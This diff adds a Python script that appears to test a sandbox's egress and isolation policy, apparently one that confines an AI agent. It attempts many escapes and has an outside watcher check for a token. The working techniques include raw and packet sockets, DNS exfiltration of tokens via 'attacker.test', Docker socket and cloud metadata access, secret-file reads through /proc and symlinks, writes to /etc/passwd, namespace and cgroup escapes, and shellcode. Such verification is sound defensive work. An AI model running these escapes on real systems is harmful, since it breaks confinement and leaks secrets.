@@ -1,0 +1,568 @@
+# SPDX-License-Identifier: AGPL-3.0-only
+"""Runs inside a sandbox and tries to get out. Each attempt carries a token; whoever watches outside
+says whether it came through. An attempt ends with a line of JSON: what the program itself saw, which
+is only a hint, or "lacking" if this kernel cannot even try.
+
+usage: attempts.py DENIED_ADDRESS PORT SECRET_FILE [ATTEMPT ...]
+"""
+
+import ctypes
+import errno
+import json
+import mmap
+import os
+import socket
+import struct
+import subprocess
+import sys
+import threading
+import time
+
+DENIED, PORT, SECRET = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+libc = ctypes.CDLL(None, use_errno=True)
+MAPPED = "::ffff:" + DENIED
+attempts = []
+
+
+def attempt(number, name):
+    def add(fn):
+        attempts.append((number, name, fn))
+        return fn
+    return add
+
+
+class Lacking(Exception):
+    pass
+
+
+def call(number, *args):
+    r = libc.syscall(number, *args)
+    if r < 0:
+        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
+    return r
+
+
+def make(*kind):
+    try:
+        s = socket.socket(*kind)
+    except OSError as e:
+        if e.errno in (errno.EPROTONOSUPPORT, errno.EAFNOSUPPORT, errno.ESOCKTNOSUPPORT):
+            raise Lacking(f"no such socket on this kernel: {kind}") from e
+        raise
+    s.settimeout(0.5)
+    return s
+
+
+def tcp(s, address, token):
+    s.connect((address, PORT))
+    s.sendall(token)
+
+
+# ---- (1) to (20): packets ----
+
+@attempt(1, "tcp4")
+def _(token):
+    tcp(make(socket.AF_INET, socket.SOCK_STREAM), DENIED, token)
+
+
+@attempt(1, "tcp-mapped")
+def _(token):
+    tcp(make(socket.AF_INET6, socket.SOCK_STREAM), MAPPED, token)
+
+
+@attempt(1, "tcp6")
+def _(token):
+    tcp(make(socket.AF_INET6, socket.SOCK_STREAM), "2606:2800:220:1::2", token)
+
+
+@attempt(2, "udp-sendto")
+def _(token):
+    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))
+
+
+@attempt(2, "udp-connected")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    s.connect((DENIED, PORT))
+    s.send(token)
+
+
+@attempt(2, "udp-sendmsg-mapped")
+def _(token):
+    make(socket.AF_INET6, socket.SOCK_DGRAM).sendmsg([token], [], 0, (MAPPED, PORT))
+
+
+def sockaddr(family, address=None):
+    return struct.pack("<H", family) + struct.pack(">H", PORT) + socket.inet_aton(address or DENIED) + b"\0" * 8
+
+
+def raw_sendto(s, token, address):
+    call(44, s.fileno(), token, len(token), 0, address, len(address))
+
+
+@attempt(2, "udp-sendmmsg")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    address = ctypes.create_string_buffer(sockaddr(2), 16)
+    data = ctypes.create_string_buffer(token, len(token))
+    iov = (ctypes.c_uint64 * 2)(ctypes.addressof(data), len(token))
+    one = struct.pack("<QI4xQQQQI4xI4x", ctypes.addressof(address), 16, ctypes.addressof(iov), 1, 0, 0, 0, 0)
+    call(307, s.fileno(), ctypes.create_string_buffer(one * 2, 2 * len(one)), 2, 0)
+
+
+@attempt(3, "udp-unspec-address")
+def _(token):
+    raw_sendto(make(socket.AF_INET, socket.SOCK_DGRAM), token, sockaddr(0))
+
+
+@attempt(3, "udp6-socket-with-ipv4-address")
+def _(token):
+    raw_sendto(make(socket.AF_INET6, socket.SOCK_DGRAM), token, sockaddr(2))
+
+
+@attempt(4, "tcp-fast-open")
+def _(token):
+    make(socket.AF_INET, socket.SOCK_STREAM).sendto(token, 0x20000000, (DENIED, PORT))
+
+
+@attempt(4, "tcp-fast-open-connect")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_STREAM)
+    s.setsockopt(socket.IPPROTO_TCP, 30, 1)
+    s.connect((DENIED, PORT))
+    s.sendall(token)
+
+
+@attempt(5, "mptcp")
+def _(token):
+    tcp(make(socket.AF_INET, socket.SOCK_STREAM, 262), DENIED, token)
+
+
+@attempt(6, "udplite")
+def _(token):
+    make(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(token, (DENIED, PORT))
+
+
+@attempt(7, "sctp")
+def _(token):
+    tcp(make(socket.AF_INET, socket.SOCK_STREAM, 132), DENIED, token)
+
+
+@attempt(8, "ping-socket")
+def _(token):
+    make(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b"\x08\0\0\0\0\1\0\1" + token, (DENIED, 0))
+
+
+@attempt(9, "raw-with-header")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_RAW, 255)
+    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 28 + len(token), 0, 0, 64, 17, 0, b"\0" * 4, socket.inet_aton(DENIED))
+    s.sendto(head + struct.pack(">HHHH", 9, PORT, 8 + len(token), 0) + token, (DENIED, 0))
+
+
+@attempt(9, "raw-udp")
+def _(token):
+    make(socket.AF_INET, socket.SOCK_RAW, 17).sendto(struct.pack(">HHHH", 9, PORT, 8 + len(token), 0) + token, (DENIED, 0))
+
+
+@attempt(10, "packet-socket")
+def _(token):
+    s = make(socket.AF_PACKET, socket.SOCK_RAW, 0x0008)
+    s.bind(("eth0", 0))
+    s.send(b"\xff" * 6 + b"\2\xa6\0\0\0\2" + b"\x08\0" + token)
+
+
+@attempt(10, "xdp-socket")
+def _(token):
+    make(44, socket.SOCK_RAW, 0)
+
+
+@attempt(11, "ip-options")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.IPPROTO_IP, socket.IP_OPTIONS, b"\x83\x07\x04" + socket.inet_aton(DENIED) + b"\0")
+    s.sendto(token, (DENIED, PORT))
+
+
+@attempt(11, "fragments")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.IPPROTO_IP, 10, 0)
+    s.sendto(token * 400, (DENIED, PORT))
+
+
+@attempt(12, "tunnel-device")
+def _(token):
+    fd = os.open("/dev/net/tun", os.O_RDWR)
+    call(16, fd, 0x400454CA, ctypes.create_string_buffer(b"tun9".ljust(16, b"\0") + struct.pack("<H", 1) + b"\0" * 22, 40))
+
+
+def netlink(kind, body):
+    s = make(socket.AF_NETLINK, socket.SOCK_RAW, 0)
+    s.send(struct.pack("<IHHII", 16 + len(body), kind, 5, 1, 0) + body)
+    answer = s.recv(4096)
+    code = struct.unpack("<i", answer[16:20])[0]
+    if code < 0:
+        raise OSError(-code, os.strerror(-code))
+
+
+@attempt(12, "new-link-in-its-namespace")
+def _(token):
+    name = struct.pack("<HH", 9, 3) + b"dum0\0" + b"\0" * 3
+    info = struct.pack("<HH", 4 + 12, 18) + struct.pack("<HH", 10, 1) + b"dummy\0" + b"\0" * 2
+    netlink(16, struct.pack("<BxHiII", 0, 0, 0, 0, 0) + name + info)
+
+
+@attempt(13, "other-source-address")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.IPPROTO_IP, 19, 1)  # IP_TRANSPARENT
+    s.bind(("10.231.1.99", 0))
+    s.sendto(token, (DENIED, PORT))
+
+
+@attempt(14, "vsock")
+def _(token):
+    s = make(socket.AF_VSOCK, socket.SOCK_STREAM)
+    s.connect((2, PORT))
+    s.sendall(token)
+
+
+@attempt(15, "abstract-unix-socket")
+def _(token):
+    s = make(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect("\0aegis-bypass")
+    s.sendall(token)
+
+
+@attempt(15, "unix-sockets-of-the-host")
+def _(token):
+    done = False
+    for path in ("/var/run/docker.sock", "/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private"):
+        s = make(socket.AF_UNIX, socket.SOCK_STREAM)
+        try:
+            s.connect(path)
+            s.sendall(token)
+            done = True
+        except OSError:
+            pass
+    if not done:
+        raise PermissionError(errno.EACCES, "none is there")
+
+
+@attempt(16, "inherited-descriptors")
+def _(token):
+    for fd in range(3, 256):
+        try:
+            kind = os.readlink(f"/proc/self/fd/{fd}")
+        except OSError:
+            continue
+        if kind.startswith("socket:"):
+            os.write(fd, token)
+            return
+    raise PermissionError(errno.EBADF, "no socket was inherited")
+
+
+@attempt(17, "listen-outside")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_STREAM)
+    s.bind(("0.0.0.0", PORT))
+    s.listen(1)
+    c, _ = s.accept()
+    c.sendall(token)
+
+
+@attempt(19, "multicast")
+def _(token):
+    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, ("224.0.0.251", PORT))
+
+
+@attempt(19, "broadcast")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
+    s.sendto(token, ("255.255.255.255", PORT))
+
+
+@attempt(20, "the-gateway-and-the-node")
+def _(token):
+    for address in ("10.231.0.1", "93.184.216.1", "10.231.1.1", "169.254.169.254"):
+        s = make(socket.AF_INET, socket.SOCK_DGRAM)
+        try:
+            s.sendto(token, (address, PORT))
+        except OSError as e:
+            last = e
+    raise last
+
+
+# ---- (21) to (27): names ----
+
+def query(name, kind=1, server="10.231.0.1"):
+    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0" \
+        + struct.pack(">HH", kind, 1)
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    s.sendto(q, (server, 53))
+    return s.recv(2048)
+
+
+def expect_refused(answer):
+    if answer[3] & 15 == 0:
+        return
+    raise PermissionError(errno.EPERM, f"rcode {answer[3] & 15}")
+
+
+@attempt(21, "name-as-a-message")
+def _(token):
+    expect_refused(query(token + b".attacker.test"))
+
+
+@attempt(21, "txt-of-a-permitted-zone")
+def _(token):
+    query(token + b".www.allowed.test", 16)
+
+
+@attempt(21, "other-resolver")
+def _(token):
+    query(token + b".www.allowed.test", 1, DENIED)
+
+
+@attempt(21, "name-over-tcp")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect(("10.231.0.1", 53))
+    q = b"\x12\x34\1\0\0\1\0\0\0\0\0\0" + bytes([len(token)]) + token + b"\x08attacker\4test\0\0\1\0\1"
+    s.sendall(struct.pack(">H", len(q)) + q)
+    expect_refused(s.recv(2048)[2:])
+
+
+@attempt(22, "dns-over-tls-port")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_STREAM)
+    s.connect((DENIED, 853))
+    s.sendall(token)
+
+
+@attempt(23, "rebinding-to-the-inside")
+def _(token):
+    answer = query(b"inside.allowed.test")
+    if struct.unpack(">H", answer[6:8])[0] == 0:
+        raise PermissionError(errno.EPERM, "no address was given")
+    make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, ("10.1.2.3", PORT))
+
+
+@attempt(27, "name-that-only-ends-alike")
+def _(token):
+    expect_refused(query(token + b".notallowed.test"))
+
+
+# ---- (29) to (37): system calls ----
+
+@attempt(29, "io_uring")
+def _(token):
+    call(425, 4, ctypes.create_string_buffer(120))
+
+
+@attempt(30, "io_uring-register")
+def _(token):
+    call(427, 0, 0, 0, 0)
+
+
+def run_code(code):
+    m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    m.write(code)
+    fn = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
+    return fn()
+
+
+def in_child(fn):
+    pid = os.fork()
+    if pid == 0:
+        try:
+            fn()
+            os._exit(0)
+        except BaseException:
+            os._exit(9)
+    _, status = os.waitpid(pid, 0)
+    if status:
+        raise PermissionError(errno.EPERM, f"child ended with {status:#x}")
+
+
+@attempt(32, "int-0x80")
+def _(token):
+    def old():
+        # getpid by the 32-bit gate: mov eax, 20; int 0x80; ret
+        if run_code(b"\xb8\x14\0\0\0\xcd\x80\xc3") <= 0:
+            raise OSError
+    in_child(old)
+
+
+@attempt(32, "x32-calls")
+def _(token):
+    in_child(lambda: call(0x40000000 | 39))
+
+
+@attempt(34, "clone3-into-a-cgroup")
+def _(token):
+    call(435, ctypes.create_string_buffer(88), 88)
+
+
+@attempt(37, "memfd-exec")
+def _(token):
+    fd = call(319, b"x", 0)
+    os.write(fd, b"#!/bin/sh\necho ran\n")
+    out = subprocess.run([f"/proc/self/fd/{fd}"], pass_fds=[fd], capture_output=True).stdout
+    if b"ran" not in out:
+        raise PermissionError(errno.EACCES, "did not run")
+    print(json.dumps({"note": "a memory file runs: programs are not what confines an agent here"}))
+    raise Lacking("running own code is not forbidden by this policy")
+
+
+# ---- (38): files of the host ----
+
+def leak(path, token):
+    text = open(path).read()
+    print(json.dumps({"secret": text}))
+
+
+@attempt(38, "secret-by-its-path")
+def _(token):
+    leak(SECRET, token)
+
+
+@attempt(38, "secret-by-proc-root")
+def _(token):
+    leak("/proc/1/root" + SECRET, token)
+
+
+@attempt(38, "secret-by-a-link")
+def _(token):
+    os.symlink(SECRET, "/workspace/link-" + token.decode())
+    leak("/workspace/link-" + token.decode(), token)
+
+
+@attempt(38, "secret-by-handle")
+def _(token):
+    fd = os.open("/workspace", os.O_RDONLY)
+    call(304, fd, ctypes.create_string_buffer(struct.pack("<Ii", 8, 1) + struct.pack("<II", 2, 0)), 0)
+
+
+@attempt(38, "writing-outside")
+def _(token):
+    for path in ("/usr/bin/x", "/etc/passwd", "/run/x", "/var/x"):
+        try:
+            with open(path, "ab") as f:
+                f.write(token)
+            return
+        except OSError as e:
+            last = e
+    raise last
+
+
+@attempt(38, "writing-a-file-of-the-host")
+def _(token):
+    with open(SECRET, "ab") as f:  # where anybody may make files, it becomes one of its own
+        f.write(token)
+
+
+@attempt(38, "mount")
+def _(token):
+    call(165, b"none", b"/tmp", b"tmpfs", 0, 0)
+
+
+@attempt(38, "new-namespaces")
+def _(token):
+    call(272, 0x10000000)
+
+
+# ---- (39) to (43): identity ----
+
+@attempt(39, "double-fork-and-setsid")
+def _(token):
+    def away():
+        os.setsid()
+        if os.fork() == 0:
+            time.sleep(0.1)
+            make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))
+    in_child(away)
+    time.sleep(0.3)
+    raise PermissionError(errno.EPERM, "whatever came of it, the watcher knows")
+
+
+@attempt(39, "thread")
+def _(token):
+    errors = []
+
+    def go():
+        try:
+            make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))
+        except OSError as e:
+            errors.append(e)
+    t = threading.Thread(target=go)
+    t.start()
+    t.join()
+    if errors:
+        raise errors[0]
+
+
+@attempt(40, "leaving-the-cgroup")
+def _(token):
+    for base in ("/sys/fs/cgroup", "/sys/fs/cgroup/unified"):
+        try:
+            with open(base + "/cgroup.procs", "w") as f:
+                f.write("0")
+            make(socket.AF_INET, socket.SOCK_DGRAM).sendto(token, (DENIED, PORT))
+            return
+        except OSError as e:
+            last = e
+    raise last
+
+
+@attempt(42, "flood-then-a-message")
+def _(token):
+    s = make(socket.AF_INET, socket.SOCK_DGRAM)
+    for _ in range(20000):
+        try:
+            s.sendto(b"x", (DENIED, PORT))
+        except OSError:
+            pass
+    s.sendto(token, (DENIED, PORT))
+
+
+@attempt(43, "bpf")
+def _(token):
+    call(321, 0, ctypes.create_string_buffer(120), 120)
+
+
+@attempt(43, "ptrace-of-init")
+def _(token):
+    call(101, 16, 1, 0, 0)
+
+
+@attempt(43, "perf_event_open")
+def _(token):
+    call(298, ctypes.create_string_buffer(120), 0, -1, -1, 0)
+
+
+@attempt(43, "kernel-keyring-and-modules")
+def _(token):
+    call(175, b"", 0, b"")
+
+
+def main():
+    for n, (number, name, fn) in enumerate(attempts):
+        if sys.argv[4:] and name not in sys.argv[4:]:
+            continue
+        token = f"tok{n:03d}x{os.getpid()}".encode()
+        line = {"class": number, "attempt": name, "token": token.decode()}
+        print(json.dumps({"begin": name}), flush=True)
+        try:
+            fn(token)
+            line["saw"] = "success"
+        except Lacking as e:
+            line["lacking"] = str(e)
+        except (OSError, struct.error, ValueError) as e:
+            line["saw"] = f"{type(e).__name__}: {e}"
+        print(json.dumps(line), flush=True)
+
+
+main()
